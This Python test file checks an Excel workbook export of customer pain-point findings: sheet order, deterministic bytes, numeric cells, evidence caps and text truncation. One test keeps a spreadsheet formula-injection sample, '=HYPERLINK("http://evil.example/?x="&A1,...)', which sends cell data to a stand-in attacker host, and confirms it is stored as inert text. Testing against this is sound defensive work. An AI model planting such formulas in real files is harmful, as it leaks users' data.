"""The workbook: every sheet, numbers as numbers, texts never formulas."""

import re
from dataclasses import replace
from io import BytesIO
from zipfile import ZipFile

import pytest
from python_calamine import CalamineWorkbook
from tests.sample_map import STAGES, counted, sample

from painpoints.report import figures, workbook

SHEETS = ["Summary", "Stages", "Pain points", "Opportunities", "Impact x effort", "Topics", "Evidence", "Left out", "How to read"]  # fmt: skip


def rows_of(book: bytes, sheet: str) -> list[list[object]]:
    """Return the cells of a sheet."""
    opened = CalamineWorkbook.from_filelike(BytesIO(book))
    return [list(row) for row in opened.get_sheet_by_name(sheet).to_python(skip_empty_area=False)]


@pytest.fixture(scope="module")
def book() -> bytes:
    """Return the workbook of the sample map."""
    journey, rows = sample(800)
    return workbook.xlsx(journey, rows, n_evidence_total=len(rows))


def test_all_sheets_are_there(book: bytes) -> None:
    """The sheets come in their order."""
    assert CalamineWorkbook.from_filelike(BytesIO(book)).sheet_names == SHEETS


def test_the_same_map_gives_the_same_bytes(book: bytes) -> None:
    """No clock and no chance is in the file."""
    journey, rows = sample(800)
    assert workbook.xlsx(journey, rows, n_evidence_total=len(rows)) == book


def test_no_cell_is_a_formula_or_a_link(book: bytes) -> None:
    """What customers wrote is kept to the letter, as a string, also where it starts with `=`."""
    with ZipFile(BytesIO(book)) as packed:
        sheets = [n for n in packed.namelist() if n.startswith("xl/worksheets/sheet")]
        for name in sheets:
            assert not re.search(rb"<f[ >]|<hyperlink", packed.read(name))
    quotes = [row[0] for row in rows_of(book, "Evidence")]
    assert '=HYPERLINK("http://evil.example/?x="&A1,"Click me")' in quotes


def test_owner_and_note_stand_with_the_finding() -> None:
    """In the sheets of findings, and beside the effort in the sheet of quadrants."""
    journey, rows = sample(800)
    owned = tuple(
        replace(v, pain_points=tuple(replace(f, owner="Ada", note="=1+1") for f in v.pain_points))
        for v in journey.stages
    )
    told = workbook.xlsx(replace(journey, stages=owned), rows, n_evidence_total=len(rows))
    for sheet in ("Pain points", "Impact x effort"):
        _, head, *lines = rows_of(told, sheet)
        pairs = {(line[head.index("Owner")], line[head.index("Note")]) for line in lines}
        assert ("Ada", "=1+1") in pairs, sheet


def test_stages_reconcile_with_the_map(book: bytes) -> None:
    """People, mentions and net sentiment of every stage stand there as numbers."""
    journey, _ = sample(800)
    head, *rows = rows_of(book, "Stages")
    told = [dict(zip(head, row, strict=True)) for row in rows]
    for view, row in zip(journey.stages, told, strict=True):
        assert row["Stage"] == view.stage.title
        assert row["People"] == view.n_people
        assert row["Mentions"] == view.n_mentions
        assert row["Net sentiment, ±100"] == (
            pytest.approx(100 * view.net_sentiment.value) if view.n_people else ""
        )
        assert row["NPS, n"] == (view.scores[0].estimate.n if view.scores else "")


def test_findings_carry_their_range_and_formula(book: bytes) -> None:
    """Each pain point has its rank with range, reach and the inputs of its priority."""
    note, head, *rows = rows_of(book, "Pain points")
    assert "No rank" in str(note[0])
    first = dict(zip(head, rows[0], strict=True))
    assert first["Rank in stage"] == 1
    assert first["People"] > 0  # type: ignore[operator]
    assert "reach" in str(first["Priority is"])


def test_a_cap_is_said_and_keeps_the_cited(monkeypatch: pytest.MonkeyPatch) -> None:
    """Where the sheet holds only some mentions it says so, and cited ones come first."""
    monkeypatch.setattr(workbook, "MAX_EVIDENCE", 25)
    journey, rows = sample(300)
    view = journey.stages[3]
    few = replace(view, pain_points=tuple(replace(f, evidence_ids=f.evidence_ids[:2]) for f in view.pain_points), opportunities=(), listed_apart=())  # fmt: skip
    capped = replace(journey, stages=(few,))
    book = workbook.xlsx(capped, rows, n_evidence_total=len(rows))
    said, head, *told = rows_of(book, "Evidence")
    assert str(said[0]).startswith(f"25 of {len(rows)} mentions are listed here")
    assert len(told) == 25
    ids = {row[head.index("Mention id")] for row in told}
    assert {key for f in few.pain_points for key in f.evidence_ids} <= ids


def test_a_long_text_is_cut_and_says_so() -> None:
    """A text beyond Excel's limit is kept to the limit, with its length at the end."""
    journey, rows = sample(20)
    long = replace(rows[0], verbatim="x" * 40_000, start=0, end=40_000)
    book = workbook.xlsx(journey, [long], n_evidence_total=1)
    cell = str(rows_of(book, "Evidence")[1][0])
    assert len(cell) <= workbook.MAX_CELL
    assert cell.endswith("of 40000 characters]")


def test_the_picture_is_on_the_first_sheet() -> None:
    """The figure travels inside the workbook."""
    journey, rows = sample(60)
    picture = figures.png(journey)
    book = workbook.xlsx(journey, rows, n_evidence_total=len(rows), picture=picture)
    with ZipFile(BytesIO(book)) as packed:
        assert packed.read("xl/media/image1.png") == picture


@pytest.mark.parametrize("stages", [STAGES, STAGES[:1]])
def test_an_empty_map_has_all_sheets(stages: tuple[object, ...]) -> None:
    """Nothing to tell is told on the same sheets."""
    book = workbook.xlsx(counted((), stages), (), n_evidence_total=0)  # type: ignore[arg-type]
    assert CalamineWorkbook.from_filelike(BytesIO(book)).sheet_names == [
        name for name in SHEETS if name != workbook.EFFORTS
    ]
    assert len(rows_of(book, "Stages")) == 1 + len(stages)
